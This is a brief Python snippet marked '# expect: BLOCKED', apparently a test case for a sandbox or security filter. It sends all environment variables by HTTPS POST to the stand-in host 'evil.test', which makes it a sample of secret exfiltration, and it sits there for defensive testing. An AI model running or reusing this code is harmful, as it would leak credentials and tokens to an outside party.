# expect: BLOCKED
import http.client, json, os
conn = http.client.HTTPSConnection("evil.test")
conn.request("POST", "/", body=json.dumps({k: v for k, v in os.environ.items()}))
